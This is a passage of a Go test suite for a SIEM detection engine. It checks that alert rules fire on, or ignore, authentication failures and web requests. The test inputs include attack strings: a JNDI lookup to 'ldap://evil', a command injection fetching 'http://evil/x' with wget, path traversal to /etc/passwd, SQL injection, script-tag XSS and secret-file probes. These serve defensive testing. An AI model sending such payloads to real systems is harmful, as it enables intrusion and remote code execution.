package siem_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/netip"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"github.com/berth-dev/berth/apitype"
	"github.com/berth-dev/berth/internal/clocktest"
	"github.com/berth-dev/berth/internal/siem"
	"github.com/berth-dev/berth/internal/store"
	"github.com/prometheus/client_golang/prometheus/testutil"
)

type world struct {
	t   *testing.T
	dir string
	st  *store.Store
	clk *clocktest.Clock
	e   *siem.Engine

	mu    sync.Mutex
	fresh []apitype.SecurityAlert
}

func newWorld(t *testing.T, cfg siem.Config) *world {
	t.Helper()
	dir := t.TempDir()
	st, err := store.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	w := &world{t: t, dir: dir, st: st, clk: clocktest.New(time.Unix(1_800_000_000, 0))}
	w.e = w.open(cfg)
	return w
}

func (w *world) open(cfg siem.Config) *siem.Engine {
	w.t.Helper()
	e, err := siem.New(siem.Options{Config: cfg, Store: w.st, Now: w.clk.Now,
		OnAlert: func(a apitype.SecurityAlert) { w.mu.Lock(); w.fresh = append(w.fresh, a); w.mu.Unlock() }})
	if err != nil {
		w.t.Fatal(err)
	}
	return e
}

var (
	ip1 = netip.MustParseAddr("203.0.113.9")
	ip2 = netip.MustParseAddr("198.51.100.7")
)

// tick moves the clock 10ms past the previous event and is the time of the next.
func (w *world) tick() time.Time {
	w.clk.Add(10 * time.Millisecond)
	return w.clk.Now()
}

// req is a request from c, 10ms after the previous event.
func (w *world) req(c netip.Addr, path string, status int) *siem.Request {
	p, q, _ := strings.Cut(path, "?")
	return &siem.Request{Time: w.tick(), Client: c, Method: "GET", Host: "app.example:443",
		Path: p, RawQuery: q, UserAgent: "curl/8", Status: status, Duration: time.Millisecond, Bytes: 10,
		Deployment: "web", Namespace: "team", Scheme: "none"}
}

func (w *world) auth(c netip.Addr, action, dep, subject string) siem.Auth {
	return siem.Auth{Time: w.tick(), Client: c, Action: action, Deployment: dep,
		Namespace: "team", Host: "app.example", Path: "/__applb/auth/callback", Subject: subject, Scheme: "bearer", Reason: "bad"}
}

func (w *world) alerts() []apitype.SecurityAlert {
	w.e.Flush()
	a, _ := w.e.Alerts(siem.Filter{Limit: 1000})
	return a
}

func rules(as []apitype.SecurityAlert) []string {
	var out []string
	for _, a := range as {
		out = append(out, a.Rule)
	}
	return out
}

func find(as []apitype.SecurityAlert, rule string) *apitype.SecurityAlert {
	for i := range as {
		if as[i].Rule == rule {
			return &as[i]
		}
	}
	return nil
}

// distinctNames returns n values of the form prefix-i whose sketch bits
// all differ, so a distinct count in a test is exact.
func distinctNames(e *siem.Engine, prefix string, n int) []string {
	seen := map[int]bool{}
	var out []string
	for i := 0; len(out) < n; i++ {
		s := fmt.Sprintf("%s-%d", prefix, i)
		if b := siem.SketchBit(e, s); !seen[b] {
			seen[b] = true
			out = append(out, s)
		}
	}
	return out
}

func TestRules(t *testing.T) {
	type tc struct {
		name, rule string
		run        func(w *world)
	}
	repeat := func(n int, f func(i int)) {
		for i := range n {
			f(i)
		}
	}
	authN := func(n int, action string, deps, subjects []string) func(w *world) {
		return func(w *world) {
			repeat(n, func(i int) {
				dep, sub := "web", "alice"
				if deps != nil {
					dep = deps[i%len(deps)]
				}
				if subjects != nil {
					sub = subjects[i%len(subjects)]
				}
				if strings.HasPrefix(action, "admin-") {
					dep = ""
				}
				w.e.ObserveAuth(w.auth(ip1, action, dep, sub))
			})
		}
	}
	get := func(paths ...string) func(w *world) {
		return func(w *world) {
			for _, p := range paths {
				w.e.ObserveRequest(w.req(ip1, p, 200))
			}
		}
	}
	probe := func(n, distinctPaths int) func(w *world) {
		return func(w *world) {
			paths := distinctNames(w.e, "/missing", distinctPaths)
			repeat(n, func(i int) { w.e.ObserveRequest(w.req(ip1, paths[i%len(paths)], 404)) })
		}
	}
	volume := func(n int) func(w *world) {
		return func(w *world) { repeat(n, func(int) { w.e.ObserveRequest(w.req(ip1, "/", 200)) }) }
	}
	var deps4, deps3, subs4, subs3 []string // filled per world below
	fires := []tc{
		{"brute force", siem.RuleBruteForce, authN(8, siem.ActionGateToken, nil, nil)},
		{"spray", siem.RuleSpray, func(w *world) { authN(8, siem.ActionGateJWT, deps4, []string{""})(w) }},
		{"enumeration", siem.RuleEnumeration, func(w *world) { authN(8, siem.ActionSigninRefused, deps4, subs4)(w) }},
		{"scope denied", siem.RuleScopeDenied, authN(8, siem.ActionAdminScope, nil, nil)},
		{"signin state", siem.RuleSigninState, authN(1, siem.ActionSigninState, nil, nil)},
		{"rce", siem.RuleRCE, get("/x/${JNDI:ldap://evil/a}")},
		{"rce semicolon", siem.RuleRCE, get("/run;%20wget%20http://evil/x")},
		{"traversal", siem.RuleTraversal, get("/static/..%2F..%2Fetc/passwd")},
		{"sqli", siem.RuleSQLi, get("/items?id=1%27%20OR%20%271%27%3D%271")},
		{"sqli union", siem.RuleSQLi, get("/items?id=1+UNION+ALL+SELECT+password")},
		{"xss", siem.RuleXSS, get("/search?q=%3CScRiPt%3Ealert(1)")},
		{"secret probe", siem.RuleSecretProbe, get("/.git/config")},
		{"scanner", siem.RuleScanner, probe(30, 8)},
		{"rate spike", siem.RuleRateSpike, volume(600)},
	}
	misses := []tc{
		{"brute force 7", siem.RuleBruteForce, authN(7, siem.ActionGateToken, nil, nil)},
		{"spray 3 deployments", siem.RuleSpray, func(w *world) { authN(8, siem.ActionGateJWT, deps3, []string{""})(w) }},
		{"spray 7 failures", siem.RuleSpray, func(w *world) { authN(7, siem.ActionGateJWT, deps4, []string{""})(w) }},
		{"enumeration 3 identities", siem.RuleEnumeration, func(w *world) { authN(8, siem.ActionSigninRefused, nil, subs3)(w) }},
		{"scope denied 7", siem.RuleScopeDenied, authN(7, siem.ActionAdminScope, nil, nil)},
		{"scope denied, other admin failures", siem.RuleScopeDenied, authN(8, siem.ActionAdminRejected, nil, nil)},
		{"signin exchange", siem.RuleSigninState, authN(20, siem.ActionSigninExchange, nil, nil)},
		{"rce", siem.RuleRCE, get("/x/$jndi", "/catalog;category=1", "/execute")},
		{"traversal", siem.RuleTraversal, get("/static/a..b/c", "/v1.2/x")},
		{"sqli", siem.RuleSQLi, get("/items?q=union+of+workers", "/items?q=don't+order+now", "/sleep(x)")},
		{"xss", siem.RuleXSS, get("/search?q=scripture", "/onerror-handling")},
		{"secret probe", siem.RuleSecretProbe, get("/docs/.git/", "/environment", "/.well-known/security.txt")},
		{"scanner 29", siem.RuleScanner, probe(29, 8)},
		{"scanner 7 paths", siem.RuleScanner, probe(60, 7)},
		{"rate spike 599", siem.RuleRateSpike, volume(599)},
	}
	setup := func(t *testing.T) *world {
		w := newWorld(t, siem.Config{})
		deps4 = distinctNames(w.e, "dep", 4)
		deps3 = deps4[:3]
		subs4 = distinctNames(w.e, "user", 4)
		subs3 = subs4[:3]
		return w
	}
	for _, c := range fires {
		t.Run("fires/"+c.name, func(t *testing.T) {
			w := setup(t)
			c.run(w)
			as := w.alerts()
			a := find(as, c.rule)
			if a == nil {
				t.Fatalf("no %s alert; got %v", c.rule, rules(as))
			}
			checkAlert(t, a)
		})
	}
	for _, c := range misses {
		t.Run("misses/"+c.name, func(t *testing.T) {
			w := setup(t)
			c.run(w)
			if as := w.alerts(); find(as, c.rule) != nil {
				t.Fatalf("near miss raised %s: %+v", c.rule, as)
			}
		})
	}
}

var severities = map[string]apitype.Severity{
	siem.RuleBruteForce: "high", siem.RuleSpray: "high", siem.RuleEnumeration: "high", siem.RuleScopeDenied: "medium",
	siem.RuleSigninState: "medium", siem.RuleRCE: "critical", siem.RuleTraversal: "high", siem.RuleSQLi: "high",
	siem.RuleXSS: "medium", siem.RuleSecretProbe: "medium", siem.RuleScanner: "medium", siem.RuleRateSpike: "medium",
}

var techniques = map[string]string{
	siem.RuleBruteForce: "T1110", siem.RuleSpray: "T1110.003", siem.RuleEnumeration: "T1110.003", siem.RuleScopeDenied: "T1110",
	siem.RuleSigninState: "T1190", siem.RuleRCE: "T1190", siem.RuleTraversal: "T1083", siem.RuleSQLi: "T1190",
	siem.RuleXSS: "T1190", siem.RuleSecretProbe: "T1595.002", siem.RuleScanner: "T1595", siem.RuleRateSpike: "T1498",
}

var titles = map[string]string{
	siem.RuleBruteForce:  "203.0.113.9 is failing authentication repeatedly",
	siem.RuleSpray:       "203.0.113.9 is spraying credentials across several deployments",
	siem.RuleEnumeration: "203.0.113.9 is trying many identities against the sign-in gate",
	siem.RuleScopeDenied: "203.0.113.9 is using a credential beyond its scope",
	siem.RuleScanner:     "203.0.113.9 is probing for unserved paths",
	siem.RuleRateSpike:   "203.0.113.9 is sending an unusual volume of requests",
}

// checkAlert checks what every alert must carry.
func checkAlert(t *testing.T, a *apitype.SecurityAlert) {
	t.Helper()
	if a.Severity != severities[a.Rule] || a.Technique != techniques[a.Rule] {
		t.Errorf("%s: severity %s technique %s", a.Rule, a.Severity, a.Technique)
	}
	if want, ok := titles[a.Rule]; ok && a.Title != want {
		t.Errorf("%s: title %q, want %q", a.Rule, a.Title, want)
	}
	if strings.HasPrefix(a.Rule, "web.") && !strings.Contains(a.Title, " attempt in ") {
		t.Errorf("%s: title %q", a.Rule, a.Title)
	}
	if a.Client != ip1.String() || a.ID < 1 || a.Count < 1 || a.Ts == 0 || a.LastTs < a.Ts {
		t.Errorf("alert %+v", a)
	}
	if a.Rule == siem.RuleSpray && a.Deployment != "" {
		t.Errorf("spray alert names deployment %q", a.Deployment)
	}
	if strings.Contains(a.Path, "?") || len(a.Path) > 512 {
		t.Errorf("path %q", a.Path)
	}
	if _, ok := a.ECS["url.query"]; ok {
		t.Error("ecs has url.query")
	}
	for _, k := range []string{"source.ip", "observer.name", "event.category", "event.action", "event.outcome"} {
		if _, ok := a.ECS[k]; !ok {
			t.Errorf("%s: ecs lacks %s: %v", a.Rule, k, a.ECS)
		}
	}
	if string(a.ECS["observer.name"]) != `"berth"` {
		t.Errorf("observer.name %s", a.ECS["observer.name"])
	}
	if len(a.Response.Investigate) == 0 || len(a.Response.Actions) == 0 {
		t.Errorf("%s: response %+v", a.Rule, a.Response)
	}
	for _, act := range a.Response.Actions {
		m := act.Rule.Match
		if act.Label == "" || act.Effect == "" || m == (apitype.RuleMatch{}) {
			t.Errorf("%s: action %+v", a.Rule, act)
		}
		switch act.Kind {
		case "block-client", "block-client-deployment":
			if act.Rule.Action != apitype.RuleBlock || m.Client != ip1.String() || act.Rule.ExpiresInSecs == nil {
				t.Errorf("%s: %+v", a.Rule, act)
			}
		case "exempt-client":
			if act.Rule.Action != apitype.RuleAllow || m.Client == "" {
				t.Errorf("%s: %+v", a.Rule, act)
			}
		case "block-path":
			if m.PathPrefix == "" && m.PathContains == "" {
				t.Errorf("%s: %+v", a.Rule, act)
			}
		default:
			t.Errorf("%s: unknown action kind %q", a.Rule, act.Kind)
		}
	}
	admin := string(a.ECS["event.action"]) == `"admin-scope"`
	if admin != (a.Response.Caveat != "") {
		t.Errorf("%s: caveat %q for an admin-plane finding: %v", a.Rule, a.Response.Caveat, admin)
	}
}

func TestAuthPrecedence(t *testing.T) {
	// Enumeration is checked before spray: many identities across many
	// deployments is enumeration.
	w := newWorld(t, siem.Config{})
	deps, subs := distinctNames(w.e, "dep", 4), distinctNames(w.e, "user", 4)
	for i := range 8 {
		w.e.ObserveAuth(w.auth(ip1, siem.ActionSigninRefused, deps[i%4], subs[i%4]))
	}
	if got := rules(w.alerts()); len(got) != 1 || got[0] != siem.RuleEnumeration {
		t.Errorf("got %v, want one auth.enumeration", got)
	}
}

func TestWebSignatures(t *testing.T) {
	w := newWorld(t, siem.Config{})
	// The strongest wins: an RCE in the query outranks a traversal in the
	// path; the path wins a tie.
	w.e.ObserveRequest(w.req(ip1, "/a/../b?cmd=${jndi:x}", 200))
	w.e.ObserveRequest(w.req(ip2, "/a/../b?q=1' or 1=1", 200))
	as := w.alerts()
	if len(as) != 2 {
		t.Fatalf("alerts %v", rules(as))
	}
	if a := as[1]; a.Rule != siem.RuleRCE || a.Title != `Remote code execution attempt in query parameter "cmd" from 203.0.113.9` {
		t.Errorf("first = %s %q", a.Rule, a.Title)
	}
	if a := as[0]; a.Rule != siem.RuleTraversal || a.Title != "Path traversal attempt in path from 198.51.100.7" {
		t.Errorf("second = %s %q", a.Rule, a.Title)
	}
	// Gate and well-known paths are never flagged, unless they climb out.
	w2 := newWorld(t, siem.Config{})
	w2.e.ObserveRequest(w2.req(ip1, "/__applb/auth/callback?state=<script>&code=' or 1=1", 200))
	w2.e.ObserveRequest(w2.req(ip1, "/.well-known/acme-challenge/${jndi:x}", 200))
	if as := w2.alerts(); len(as) != 0 {
		t.Errorf("gate/well-known paths flagged: %v", rules(as))
	}
	w2.e.ObserveRequest(w2.req(ip1, "/.well-known/../../etc/passwd", 200))
	if as := w2.alerts(); find(as, siem.RuleTraversal) == nil {
		t.Errorf("a traversal out of /.well-known/ was not flagged: %v", rules(as))
	}
	// A deployment's own gate base path.
	e, err := siem.New(siem.Options{GatePath: func(dep string) string { return "/login/" }})
	if err != nil {
		t.Fatal(err)
	}
	e.ObserveRequest(&siem.Request{Client: ip1, Path: "/login/cb", RawQuery: "next=javascript:x", Deployment: "web", Status: 302})
	e.ObserveRequest(&siem.Request{Client: ip1, Path: "/other", RawQuery: "next=javascript:x", Deployment: "web", Status: 302})
	e.Flush()
	if as, _ := e.Alerts(siem.Filter{}); len(as) != 1 || as[0].Path != "/other" {
		t.Errorf("custom gate path: %+v", as)
	}
	// NoQueryScan.
	w3 := newWorld(t, siem.Config{NoQueryScan: true})
	w3.e.ObserveRequest(w3.req(ip1, "/q?x=${jndi:x}", 200))
	if as := w3.alerts(); len(as) != 0 {
		t.Errorf("NoQueryScan still scanned: %v", rules(as))
	}
}

func TestQueryValueNeverRecorded(t *testing.T) {
	w := newWorld(t, siem.Config{})
	long := strings.Repeat("p", 100)
	w.e.ObserveRequest(w.req(ip1, "/search/"+strings.Repeat("x", 600)+"?token=hunter2secret&"+long+"=%3Cscript%3Esteal(hunter2)", 200))
	as := w.alerts()
	if len(as) != 1 {
		t.Fatalf("alerts %v", rules(as))
	}
	a := as[0]
	if want := `Cross-site scripting attempt in query parameter "` + long[:64] + `" from 203.0.113.9`; a.Title != want {
		t.Errorf("title %q, want %q", a.Title, want)
	}
	b, _ := json.Marshal(a)
	for _, s := range []string{"hunter2", "<script", "steal", "token", "url.query\""} {
		if strings.Contains(string(b), s) {
			t.Errorf("alert carries %q: %s", s, b)
		}
	}
	if len(a.Path) != 512 || strings.Contains(a.Path, "?") {
		t.Errorf("path %d bytes: %q", len(a.Path), a.Path)
	}
	// Nor does the stored copy.
	rows, _, err := w.st.SecurityAlerts(t.Context())
	if err != nil || len(rows) != 1 || strings.Contains(string(rows[0].JSON), "hunter2") {
		t.Errorf("stored: %v %v", rows, err)
	}
}

// TestNoFeedbackLoop is the point of berth's SIEM over app-lb's: a signed-in
// user browsing many missing pages, or berth answering for hosts it does not
// serve, must not produce a finding an operator would block a person for.
func TestNoFeedbackLoop(t *testing.T) {
	browse := func(w *world, c netip.Addr, credentialed bool) {
		paths := distinctNames(w.e, "/old-link", 40)
		for i := range 500 {
			r := w.req(c, paths[i%len(paths)], 404)
			r.Credentialed = credentialed
			w.e.ObserveRequest(r)
		}
	}
	w := newWorld(t, siem.Config{})
	browse(w, ip1, true)
	if as := w.alerts(); len(as) != 0 {
		t.Fatalf("a credentialed user's 404s raised %v", rules(as))
	}
	browse(w, ip2, false)
	as := w.alerts()
	if len(as) != 1 || as[0].Rule != siem.RuleScanner || as[0].Client != ip2.String() {
		t.Fatalf("anonymous 404s raised %v, want one traffic.scanner from %s", rules(as), ip2)
	}
	if as[0].Count < 400 {
		t.Errorf("scanner alert count %d: the probes should fold into it", as[0].Count)
	}

	// A credentialed request is still scanned for signatures and still
	// counts toward the rate.
	w = newWorld(t, siem.Config{RateThreshold: 50})
	for i := range 50 {
		r := w.req(ip1, "/", 200)
		if i == 0 {
			r.Path = "/x/${jndi:a}"
		}
		r.Credentialed = true
		w.e.ObserveRequest(r)
	}
	as = w.alerts()
	if find(as, siem.RuleRateSpike) == nil || find(as, siem.RuleRCE) == nil {
		t.Errorf("credentialed requests: %v, want rate spike and rce", rules(as))
	}
	if a := find(as, siem.RuleRCE); a != nil && !strings.Contains(string(a.ECS["tags"]), "credentialed") {
		t.Errorf("rce of a credentialed request not tagged: %s", a.ECS["tags"])
	}

	// Unrouted: berth's own 404s count toward the scanner rules only.
	w = newWorld(t, siem.Config{RateThreshold: 100})
	paths := distinctNames(w.e, "/nothing", 10)
	for i := range 300 {
		r := w.req(ip1, paths[i%10], 404)
		r.Unrouted, r.Deployment, r.Namespace = true, "", ""
		if i == 0 {
			r.Path = "/a/../../etc/passwd"
		}
		if i == 1 {
			r.Path = "/.env"
		}
		w.e.ObserveRequest(r)
	}
	as = w.alerts()
	if got := rules(as); len(got) != 2 || find(as, siem.RuleScanner) == nil || find(as, siem.RuleSecretProbe) == nil {
		t.Errorf("unrouted: %v, want traffic.scanner and web.secret-probe only", got)
	}
	for _, a := range as {
		if a.Deployment != "" {
			t.Errorf("unrouted finding names deployment %q", a.Deployment)
		}
	}

	// Exempted: nothing at all.
	w = newWorld(t, siem.Config{RateThreshold: 10, ScanThreshold: 5, ScanDistinctPaths: 1})
	for range 50 {
		r := w.req(ip1, "/.git/${jndi:x}", 404)
		r.Exempted = true
		w.e.ObserveRequest(r)
	}
	if as := w.alerts(); len(as) != 0 {
		t.Errorf("exempted requests raised %v", rules(as))
	}
	if s := w.e.Stats(); s.Analyzed != 50 || s.TrackedClients != 0 {
		t.Errorf("stats %+v", s)
	}
}

func TestFolding(t *testing.T) {
	w := newWorld(t, siem.Config{})
	for range 5 {
		w.e.ObserveRequest(w.req(ip1, "/${jndi:x}", 200))
		w.clk.Add(time.Minute) // each within 300s of the previous
	}
	as := w.alerts()
	if len(as) != 1 || as[0].Count != 5 || as[0].LastTs-as[0].Ts != (4*time.Minute+40*time.Millisecond).Milliseconds() {
		t.Fatalf("folded: %+v", as)
	}
	if s := w.e.Stats(); s.Raised != 1 || s.Suppressed != 4 {
		t.Errorf("stats %+v", s)
	}
	// Another deployment is another alert; so is the same after Suppress.
	r := w.req(ip1, "/${jndi:x}", 200)
	r.Deployment = "api"
	w.e.ObserveRequest(r)
	w.clk.Add(301 * time.Second)
	w.e.ObserveRequest(w.req(ip1, "/${jndi:x}", 200))
	as = w.alerts()
	if len(as) != 3 || as[0].ID != 3 || as[1].Deployment != "api" || as[0].Count != 1 {
		t.Fatalf("after suppress window: %+v", as)
	}
	if len(w.fresh) != 3 {
		t.Errorf("OnAlert called %d times, want 3 (not for folds)", len(w.fresh))
	}

	// The per-minute cap on new alerts.
	w = newWorld(t, siem.Config{MaxAlertsPerMinute: 3})
	w.clk.Add(time.Minute - w.clk.Now().Sub(w.clk.Now().Truncate(time.Minute))) // to the start of a minute
	for i := range 5 {
		w.e.ObserveRequest(w.req(netip.AddrFrom4([4]byte{192, 0, 2, byte(i)}), "/.env", 404))
	}
	if as := w.alerts(); len(as) != 3 {
		t.Errorf("%d alerts in a minute, want 3", len(as))
	}
	if s := w.e.Stats(); s.Raised != 3 || s.Suppressed != 2 {
		t.Errorf("stats %+v", s)
	}
	w.clk.Add(time.Minute)
	w.e.ObserveRequest(w.req(netip.AddrFrom4([4]byte{192, 0, 2, 9}), "/.env", 404))
	if as := w.alerts(); len(as) != 4 {
		t.Errorf("next minute: %d alerts, want 4", len(as))
	}
}

func TestClientTableAtCapacity(t *testing.T) {
	w := newWorld(t, siem.Config{MaxClients: 2, ScanThreshold: 3, ScanDistinctPaths: 1})
	w.e.ObserveRequest(w.req(ip1, "/", 200))
	w.e.ObserveRequest(w.req(ip2, "/", 200))
	third := netip.MustParseAddr("192.0.2.1")
	for range 5 {
		w.e.ObserveRequest(w.req(third, "/missing", 404))
	}
	w.e.ObserveRequest(w.req(third, "/.env", 404)) // signatures need no state
	as := w.alerts()
	if got := rules(as); len(got) != 1 || got[0] != siem.RuleSecretProbe {
		t.Errorf("at capacity: %v, want only the stateless web.secret-probe", got)
	}
	if s := w.e.Stats(); s.TrackedClients != 2 || !s.ClientsAtCapacity {
		t.Errorf("stats %+v", s)
	}
	if _, _, _, full := w.e.Summary(); !full {
		t.Error("Summary: not at capacity")
	}
	// Once the others' window has passed they are pruned to make room; a
	// source being watched is never evicted.
	w.clk.Add(61 * time.Second)
	for range 3 {
		w.e.ObserveRequest(w.req(third, "/missing", 404))
	}
	if as := w.alerts(); find(as, siem.RuleScanner) == nil {
		t.Errorf("after the window: %v, want traffic.scanner", rules(as))
	}
	if s := w.e.Stats(); s.TrackedClients != 1 || s.ClientsAtCapacity {
		t.Errorf("stats after prune %+v", s)
	}
}

func TestSources(t *testing.T) {
	// An IPv4-mapped IPv6 peer is its IPv4 address.
	w := newWorld(t, siem.Config{})
	mapped := netip.AddrFrom16(ip1.As16())
	for i := range 8 {
		c := ip1
		if i%2 == 0 {
			c = mapped
		}
		w.e.ObserveAuth(w.auth(c, siem.ActionGateToken, "web", "alice"))
	}
	as := w.alerts()
	if len(as) != 1 || as[0].Rule != siem.RuleBruteForce || as[0].Client != "203.0.113.9" {
		t.Fatalf("v4-mapped: %+v", as)
	}
	checkAlert(t, &as[0])

	// IPv6 is grouped by /64, and so is the block it suggests.
	w = newWorld(t, siem.Config{})
	for i := range 8 {
		w.e.ObserveAuth(w.auth(netip.MustParseAddr(fmt.Sprintf("2001:db8:1:2::%x", i+1)), siem.ActionGateToken, "web", "alice"))
		w.e.ObserveAuth(w.auth(netip.MustParseAddr(fmt.Sprintf("2001:db8:1:%x::1", i+3)), siem.ActionGateToken, "web", "alice"))
	}
	as = w.alerts()
	if len(as) != 1 || as[0].Client != "2001:db8:1:2::8" { // the address that crossed the threshold
		t.Fatalf("v6: %+v", as)
	}
	for _, act := range as[0].Response.Actions {
		if act.Rule.Match.Client != "2001:db8:1:2::/64" {
			t.Errorf("v6 action %s matches %q, want the /64", act.Kind, act.Rule.Match.Client)
		}
	}
}

func TestPersistence(t *testing.T) {
	w := newWorld(t, siem.Config{AlertCapacity: 3})
	for i := range 4 {
		w.e.ObserveRequest(w.req(netip.AddrFrom4([4]byte{192, 0, 2, byte(i)}), "/.env", 404))
	}
	w.e.ObserveAuth(w.auth(ip1, siem.ActionSigninState, "web", ""))
	if err := w.e.Close(); err != nil {
		t.Fatal(err)
	}
	w.e.ObserveRequest(w.req(ip2, "/.env", 404)) // after Close: dropped
	if s := w.e.Stats(); s.Dropped != 1 {
		t.Errorf("after Close: %+v", s)
	}
	w.st.Close()
	st, err := store.Open(w.dir)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	w.st = st
	e := w.open(siem.Config{AlertCapacity: 3})
	w.e = e
	as := w.alerts()
	if len(as) != 3 || as[0].ID != 5 || as[2].ID != 3 || as[0].Rule != siem.RuleSigninState {
		t.Fatalf("after reopen: %+v", as)
	}
	if as[0].Response.Actions == nil || as[0].ECS["source.ip"] == nil {
		t.Errorf("reloaded alert lost its content: %+v", as[0])
	}
	// A repeat folds into the reloaded alert; a new one continues the ids.
	w.e.ObserveAuth(w.auth(ip1, siem.ActionSigninState, "web", ""))
	w.e.ObserveRequest(w.req(ip2, "/wp-admin/", 404))
	as = w.alerts()
	if len(as) != 3 || as[0].ID != 6 || as[1].ID != 5 || as[1].Count != 2 {
		t.Fatalf("after restart: %+v", as)
	}
	if err := w.e.Close(); err != nil {
		t.Fatal(err)
	}
	rows, last, err := w.st.SecurityAlerts(t.Context())
	if err != nil || len(rows) != 3 || last != 6 || rows[0].ID != 4 {
		t.Fatalf("stored: %d rows, last %d, %v", len(rows), last, err)
	}
}

func TestFilter(t *testing.T) {
	w := newWorld(t, siem.Config{})
	w.e.ObserveRequest(w.req(ip1, "/${jndi:x}", 200)) // critical, web/team
	r := w.req(ip1, "/.env", 404)                     // medium, other/ops
	r.Deployment, r.Namespace = "other", "ops"
	w.e.ObserveRequest(r)
	for range 8 {
		w.e.ObserveAuth(w.auth(ip2, siem.ActionAdminRejected, "", "tok")) // high, admin plane
	}
	w.e.Flush()
	all, tot := w.e.Alerts(siem.Filter{})
	if len(all) != 3 || all[0].Rule != siem.RuleBruteForce || tot != (apitype.SeverityTotals{Medium: 1, High: 1, Critical: 1}) {
		t.Fatalf("all: %v %+v", rules(all), tot)
	}
	for _, c := range []struct {
		f    siem.Filter
		want []string
	}{
		{siem.Filter{MinSeverity: "high"}, []string{siem.RuleBruteForce, siem.RuleRCE}},
		{siem.Filter{MinSeverity: "bogus"}, []string{siem.RuleBruteForce, siem.RuleSecretProbe, siem.RuleRCE}},
		{siem.Filter{Rule: siem.RuleRCE}, []string{siem.RuleRCE}},
		{siem.Filter{Deployment: "other"}, []string{siem.RuleSecretProbe}},
		{siem.Filter{Namespaces: []string{"team"}}, []string{siem.RuleRCE}},
		{siem.Filter{Namespaces: []string{}}, nil},
		{siem.Filter{Limit: 1}, []string{siem.RuleBruteForce}},
	} {
		got, _ := w.e.Alerts(c.f)
		if fmt.Sprint(rules(got)) != fmt.Sprint(c.want) {
			t.Errorf("%+v: %v, want %v", c.f, rules(got), c.want)
		}
	}
	if open, urgent, dropped, full := w.e.Summary(); open != 3 || urgent != 2 || dropped != 0 || full {
		t.Errorf("summary %d %d %d %v", open, urgent, dropped, full)
	}
}

func TestQueueAndDisabled(t *testing.T) {
	w := newWorld(t, siem.Config{QueueCapacity: 4})
	for range 6 {
		w.e.ObserveRequest(w.req(ip1, "/", 200))
	}
	w.e.Flush()
	if s := w.e.Stats(); s.Observed != 6 || s.Dropped != 2 || s.Analyzed != 4 {
		t.Errorf("stats %+v", s)
	}
	if n := testutil.CollectAndCount(w.e.Collector()); n < 4 {
		t.Errorf("collector: %d metrics", n)
	}
	e, err := siem.New(siem.Options{Config: siem.Config{Disabled: true}, Store: w.st})
	if err != nil {
		t.Fatal(err)
	}
	e.ObserveRequest(w.req(ip1, "/${jndi:x}", 200))
	e.Flush()
	if as, _ := e.Alerts(siem.Filter{}); len(as) != 0 || e.Enabled() || e.Stats().Observed != 0 {
		t.Errorf("disabled engine observed: %v", as)
	}
	if _, err := siem.New(siem.Options{Config: siem.Config{ScanDistinctPaths: 65}}); err == nil {
		t.Error("ScanDistinctPaths 65 accepted: a 64-bit sketch cannot count that far")
	}
}

func TestMetrics(t *testing.T) {
	w := newWorld(t, siem.Config{})
	w.e.ObserveRequest(w.req(ip1, "/${jndi:x}", 200))
	w.e.ObserveRequest(w.req(ip1, "/${jndi:x}", 200))
	w.e.Flush()
	const want = `
# HELP berth_siem_alerts_total Security alerts raised (new alerts, not folded repeats), by rule and severity.
# TYPE berth_siem_alerts_total counter
berth_siem_alerts_total{rule="web.rce",severity="critical"} 1
# HELP berth_siem_suppressed_total Alert occurrences folded into an earlier alert or refused by the per-minute cap.
# TYPE berth_siem_suppressed_total counter
berth_siem_suppressed_total 1
`
	if err := testutil.CollectAndCompare(w.e.Collector(), strings.NewReader(want), "berth_siem_alerts_total", "berth_siem_suppressed_total"); err != nil {
		t.Error(err)
	}
}

// TestRun: the background analyser drains the queue on its own ticker.
func TestRun(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		e, err := siem.New(siem.Options{})
		if err != nil {
			t.Fatal(err)
		}
		ctx, cancel := context.WithCancel(t.Context())
		done := make(chan struct{})
		go func() { e.Run(ctx); close(done) }()
		e.ObserveRequest(&siem.Request{Client: ip1, Path: "/.git/HEAD", Status: 404})
		time.Sleep(50 * time.Millisecond)
		synctest.Wait()
		if as, _ := e.Alerts(siem.Filter{}); len(as) != 1 {
			t.Errorf("after a tick: %v", rules(as))
		}
		e.ObserveRequest(&siem.Request{Client: ip2, Path: "/.git/HEAD", Status: 404})
		cancel()
		<-done
		if as, _ := e.Alerts(siem.Filter{}); len(as) != 2 {
			t.Errorf("Run did not flush on the way out: %v", rules(as))
		}
	})
}

// countingStore is the real store, counting the alert writes.
type countingStore struct {
	*store.Store
	mu   sync.Mutex
	puts int
}

func (c *countingStore) PutSecurityAlerts(ctx context.Context, rows []store.SecurityAlert, keep int) error {
	c.mu.Lock()
	c.puts++
	c.mu.Unlock()
	return c.Store.PutSecurityAlerts(ctx, rows, keep)
}

func (c *countingStore) n() int { c.mu.Lock(); defer c.mu.Unlock(); return c.puts }

// TestFoldsWrittenInBatches: a new alert is written in the batch that
// raises it; a source hammering on only folds into it, and those folds
// reach the store at most every few seconds, not every batch (an attack
// must not become a stream of disk syncs) — and all of them on Close.
func TestFoldsWrittenInBatches(t *testing.T) {
	w := newWorld(t, siem.Config{})
	cs := &countingStore{Store: w.st}
	e, err := siem.New(siem.Options{Store: cs, Now: w.clk.Now})
	if err != nil {
		t.Fatal(err)
	}
	for i := range 40 {
		e.ObserveRequest(w.req(ip1, fmt.Sprintf("/missing/%d", i), 404))
	}
	siem.Batch(e)
	if cs.n() != 1 {
		t.Fatalf("%d writes after the batch that raised the alert, want 1", cs.n())
	}
	for b := range 20 { // 20 batches of folds, 20 ms apart
		for i := range 10 {
			e.ObserveRequest(w.req(ip1, fmt.Sprintf("/more/%d/%d", b, i), 404))
		}
		w.clk.Add(20 * time.Millisecond)
		siem.Batch(e)
	}
	if cs.n() != 1 {
		t.Errorf("%d writes after 20 batches of folds within a second, want still 1", cs.n())
	}
	w.clk.Add(5 * time.Second)
	e.ObserveRequest(w.req(ip1, "/later", 404))
	siem.Batch(e)
	if cs.n() != 2 {
		t.Errorf("%d writes once the folds were due, want 2", cs.n())
	}
	e.ObserveRequest(w.req(ip1, "/last", 404))
	if err := e.Close(); err != nil {
		t.Fatal(err)
	}
	rows, _, err := w.st.SecurityAlerts(context.Background())
